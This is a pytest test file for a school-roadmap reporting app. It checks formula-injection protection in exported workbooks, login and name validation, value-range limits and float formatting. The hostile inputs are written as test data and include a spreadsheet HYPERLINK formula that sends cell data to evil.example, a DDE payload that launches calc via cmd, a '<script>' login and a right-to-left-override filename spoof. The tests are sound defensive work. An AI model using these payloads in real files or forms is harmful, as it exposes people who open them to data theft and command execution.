"""Issue 29 in core: every file going out keeps formula-like text as text (the Word draft workbook
included), user administration refuses bad logins and names, values out of their plausible range
are refused, formatting survives any stored float."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

from core import roadmap_book, roadmap_docx
from tests.helpers import school_id, snapshot

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+7 900 000-00-00", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3", "=1+1"]


def _formulas(xlsx: bytes) -> list[str]:
    """The formulas a spreadsheet program would run: every <f> element of every sheet."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [m for n in z.namelist() if n.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >].*?</f>", z.read(n).decode("utf-8"))]


def test_the_word_draft_workbook_keeps_formula_like_text_as_text():
    doc = Document()
    doc.add_paragraph("Дорожная карта по поддержке школ в Берёзовском районе на 2025 год")
    t = doc.add_table(rows=0, cols=5)
    rows = [["№ п/п", "Мероприятие", "Срок", "Ответственный", "Ожидаемый результат"]]
    rows += [[str(k), v, "Март 2025 года", HOSTILE_CELLS[(k + 1) % 5], HOSTILE_CELLS[(k + 2) % 5]]
             for k, v in enumerate(HOSTILE_CELLS, 1)]
    for r in rows:
        for c, v in zip(t.add_row().cells, r):
            c.text = v
    out = io.BytesIO()
    doc.save(out)
    xlsx, _ = roadmap_docx.draft_workbook(out.getvalue(), "hostile.docx")
    assert _formulas(xlsx) == []
    ws = load_workbook(io.BytesIO(xlsx))["Мероприятия"]
    seen = {c.value for row in ws.iter_rows() for c in row if c.value in HOSTILE_CELLS}
    assert seen == set(HOSTILE_CELLS)  # the text itself, unchanged, reads back
    for row in ws.iter_rows():
        for c in row:
            if c.value in HOSTILE_CELLS:
                assert c.data_type == "s" and c.quotePrefix


def test_the_roadmap_workbook_keeps_formula_like_text_as_text():
    book = {"roadmap": {"code": "=1+1", "title": HOSTILE_CELLS[0]},
            "Мероприятия": [{"number": "1", "title": v, "responsible": "@x"} for v in HOSTILE_CELLS]}
    xlsx = roadmap_book.write(book)
    assert _formulas(xlsx) == []
    wb = load_workbook(io.BytesIO(xlsx))
    values = {c.value for row in wb["Мероприятия"].iter_rows(min_row=3) for c in row}
    assert set(HOSTILE_CELLS) | {"@x"} <= values


# ---------------------------------------------------------------------------------------------
# 6. User administration validates logins and names
# ---------------------------------------------------------------------------------------------
BAD_USERS = [
    ({"login": "x" * 10_000}, "Логин слишком длинный: 10000 символов"),
    ({"login": "a" * 65}, "не больше 64"),
    ({"login": "nul\x00byte"}, "U+0000"),
    ({"login": "evil\u202etxt.exe"}, "U+202E"),
    ({"login": "два слова"}, "« » недопустим"),
    ({"login": "<script>"}, "«<» недопустим"),
    ({"login": "   "}, "Укажите логин"),
    ({"full_name": "Иванов\u202eвонаИ"}, "ФИО содержит недопустимый"),
    ({"full_name": "Иванов\x00"}, "U+0000"),
    ({"full_name": "Иванов\u200bИван"}, "U+200B"),
    ({"full_name": "Я" * 256}, "ФИО слишком длинное: 256"),
]


@pytest.mark.parametrize("bad,message", BAD_USERS, ids=[m for _, m in BAD_USERS])
def test_user_administration_refuses_bad_logins_and_names(demo_db_any, bad, message):
    from sqlalchemy import func, select as sa_select

    from core import auth, users
    from core.db import session_scope
    from core.models import User
    from tests.helpers import scope_of

    admin = scope_of(demo_db_any, "demo-admin")
    with session_scope(demo_db_any) as s:
        before = s.execute(sa_select(func.count()).select_from(User)).scalar()
    fields = {"login": "new-person", "full_name": "Новый Человек", **bad}
    with pytest.raises(auth.AuthError, match=re.escape(message)):
        users.create(admin, password="длинный-пароль", role="admin", engine=demo_db_any, **fields)
    with session_scope(demo_db_any) as s:
        assert s.execute(sa_select(func.count()).select_from(User)).scalar() == before
    if "full_name" in bad:  # a rename is held to the same rule
        with pytest.raises(auth.AuthError, match=re.escape(message)):
            users.update(admin, admin.user_id, role="admin", territory_id=None, school_id=None,
                         full_name=bad["full_name"], engine=demo_db_any)


def test_ordinary_logins_and_names_pass(demo_db_any):
    from core import auth, users
    from tests.helpers import scope_of

    admin = scope_of(demo_db_any, "demo-admin")
    for login, name in [("ivanova.m-2@school_7", "Иванова Мария-Луиза Петровна"), ("Ёлкин", "Ёлкин Ё. Ё."),
                        ("a" * 64, "О’Нил Шон")]:
        users.create(admin, login=login, password="длинный-пароль", full_name=name, role="admin", engine=demo_db_any)
        assert auth.login(login, "длинный-пароль", engine=demo_db_any).ok


# ---------------------------------------------------------------------------------------------
# 3. Values within reason
# ---------------------------------------------------------------------------------------------
BEYOND = [  # (indicator, part, value, what the refusal names)
    ("olympiad_participants", "value", 1e26, "от 0 до 100\u00a0000 (наибольшее правдоподобное для школы)"),
    ("olympiad_participants", "value", 1e308, "от 0 до 100\u00a0000"),
    ("start_conditions", "denominator", 1e26, "от 0 до 100\u00a0000 (наибольшее правдоподобное для школы)"),
    ("edu_quality", "denominator", 5000, "от 0 до 925 (обучающихся в школе по справочнику 610, с запасом в полтора "
                                         "раза и ещё 10)"),
    ("teachers_trained", "denominator", 400, "от 0 до 67 (педагогов в школе по справочнику 38"),
]


@pytest.mark.parametrize("code,part,number,named", BEYOND, ids=[f"{c}-{p}-{n:g}" for c, p, n, _ in BEYOND])
def test_a_value_beyond_its_range_is_refused_by_the_upload(demo_db_any, code, part, number, named):
    from core.ingest import pipeline
    from tests.ingest_files import long_table
    from tests.helpers import scope_of

    row = ["NEV-02", code, "2024-Q4", None, None, None]
    if part == "value":
        row[3] = number
    else:
        row[4], row[5] = 3, number
    data = long_table([row])
    before = snapshot(demo_db_any)
    pv = pipeline.prepare(scope_of(demo_db_any, "demo-methodist"), [("значения.xlsx", data)], engine=demo_db_any)
    texts = [p.text for p in pv.errors]
    assert not pv.ok and any("вне допустимого диапазона" in t and named in t and "строка 2" in t for t in texts), texts
    with pytest.raises(Exception):
        pipeline.apply(scope_of(demo_db_any, "demo-methodist"), pv, data, accept_warnings=True, engine=demo_db_any)
    assert snapshot(demo_db_any) == before


def test_a_value_beyond_its_range_is_refused_by_the_entry_form(demo_db_any):
    from core import cycle
    from tests.helpers import scope_of

    pr = scope_of(demo_db_any, "demo-principal")
    pv, _ = cycle.prepare_entry(pr, school_id(demo_db_any, "NEV-02"), "2024-Q4", {
        "olympiad_participants": {"value": 1e26}, "edu_quality": {"denominator": 1000, "numerator": 10}},
        engine=demo_db_any)
    texts = [p.text for p in pv.errors]
    assert any("Участники олимпиад" in t and "1,0·10²⁶ вне допустимого диапазона: от 0 до 100\u00a0000" in t
               for t in texts), texts
    assert any("Обучающихся, прошедших аттестацию" in t and "1\u00a0000 вне допустимого диапазона: от 0 до 925" in t
               for t in texts), texts
    assert not pv.ok
    ok, _ = cycle.prepare_entry(pr, school_id(demo_db_any, "NEV-02"), "2024-Q4", {
        "edu_quality": {"denominator": 900, "numerator": 10}}, engine=demo_db_any)  # within the margin
    assert not any("диапазона" in p.text for p in ok.errors)


def test_a_value_beyond_its_range_is_refused_by_the_cli(demo_db_rw, tmp_path, monkeypatch, capsys):
    from core.ingest.__main__ import main as ingest
    from tests.ingest_files import long_table

    monkeypatch.setattr("core.ingest.__main__.ensure_database", lambda: demo_db_rw)
    path = tmp_path / "long.xlsx"
    path.write_bytes(long_table([["NEV-02", "olympiad_participants", "2024-Q4", 1e26, None, None]]))
    before = snapshot(demo_db_rw)
    assert ingest([str(path), "--user", "demo-methodist", "--apply", "--accept-warnings"]) == 1
    out = capsys.readouterr()
    assert "вне допустимого диапазона: от 0 до 100\u00a0000" in out.out + out.err
    assert snapshot(demo_db_rw) == before


def test_the_indicator_maximum_is_its_own(demo_db_any):
    from sqlalchemy import text as sql

    from core.ingest import pipeline
    from tests.ingest_files import long_table
    from tests.helpers import scope_of

    with demo_db_any.begin() as c:
        c.execute(sql("UPDATE indicator SET max_value = 50 WHERE code = 'olympiad_participants'"))
    pv = pipeline.prepare(scope_of(demo_db_any, "demo-methodist"),
                          [("x.xlsx", long_table([["NEV-02", "olympiad_participants", "2024-Q4", 51, None, None]]))],
                          engine=demo_db_any)
    assert any("от 0 до 50 (наибольшее допустимое для показателя)" in p.text for p in pv.errors)


def test_check_reports_stored_values_outside_their_range(demo_db_any, monkeypatch, capsys):
    from sqlalchemy import text as sql

    from core import cli, maintenance

    assert not [f for f in maintenance.integrity(demo_db_any) if f.check == "value_range"]
    with demo_db_any.begin() as c:  # as an import before issue 29 could write
        c.execute(sql("UPDATE measurement SET value = 1e308 WHERE id = (SELECT MIN(m.id) FROM measurement m "
                      "JOIN indicator i ON i.id = m.indicator_id WHERE i.code = 'olympiad_participants')"))
    found = [f for f in maintenance.integrity(demo_db_any) if f.check == "value_range"]
    assert found and found[0].count == 1 and "1,0·10³⁰⁸" in found[0].detail and "(допустимо от 0 до" in found[0].detail
    monkeypatch.setattr("core.cli.ensure_database", lambda *a, **k: demo_db_any)
    assert cli.main(["check"]) == 1
    assert "значения вне допустимого диапазона" in capsys.readouterr().out


@pytest.mark.parametrize("x", [float("inf"), float("-inf"), float("nan"), 1e308, -1e308, 1e26, 5e-324])
def test_formatting_never_breaks_on_a_stored_float(x):
    from core import formatting as fmt

    for unit in ("%", "чел.", "школ", "балл", ""):
        assert isinstance(fmt.value(x, unit), str)
    assert isinstance(fmt.num(x, 2), str) and isinstance(fmt.plural(x, ("школа", "школы", "школ")), str)
    assert isinstance(fmt.goal("не ниже", x, "%"), str)


@pytest.mark.parametrize("stored", [1e308, float("inf")], ids=["1e308", "inf"])
def test_pages_survive_any_stored_float(app_db, stored):
    """Defence in depth: a value stored before the range check (or written by hand) must not break
    the overview, the indicator card or the school page for everyone in the territory."""
    from sqlalchemy import text as sql

    from core import cli
    from tests.helpers import run_as

    with app_db.begin() as c:
        for code in ("olympiad_participants", "edu_quality"):
            c.execute(sql("UPDATE measurement SET value = :v, numerator = CASE WHEN numerator IS NULL THEN NULL "
                          "ELSE :v END, denominator = CASE WHEN denominator IS NULL THEN NULL ELSE :v END "
                          "WHERE school_id = 2 AND indicator_id = (SELECT id FROM indicator WHERE code = :c)"),
                      {"v": stored, "c": code})
        c.execute(sql("UPDATE appmeta SET value = 'planted' WHERE key = 'data_version'"))
    assert cli.main(["recount"]) == 0  # the summary from the planted values, as a write would keep it
    for page, params in (("../app_pages/overview.py", {"roadmap": "nev-2024"}), ("../app_pages/school.py", {"school": "2"}),
                         ("../app_pages/indicator.py", {"roadmap": "nev-2024"})):
        at = run_as("demo-head", page, **params)
        assert not at.exception and not [e for e in at.error if "непредвиденная" in e.value], (page, at.error)


def test_the_entry_page_refuses_a_value_beyond_its_range(app_db):
    """The browser form: 1e26 participants (the «резкое изменение» tick let it through before) is an
    error naming the field and the range, and there is nothing to write."""
    from tests.helpers import run_as

    at = run_as("demo-principal", "../app_pages/entry.py")
    at.selectbox(key="entry_period").set_value("2024-Q4").run()
    at.number_input(key="e_2:2024-Q4_olympiad_participants_v").set_value(1e26)
    at.button[0].click().run()  # «Проверить»
    assert not at.exception
    table = at.table[0].value.to_string()
    assert "вне допустимого диапазона" in table and "100\u00a0000" in table and "Участники олимпиад" in table
    assert not any(b.key == "entry_apply" for b in at.button)
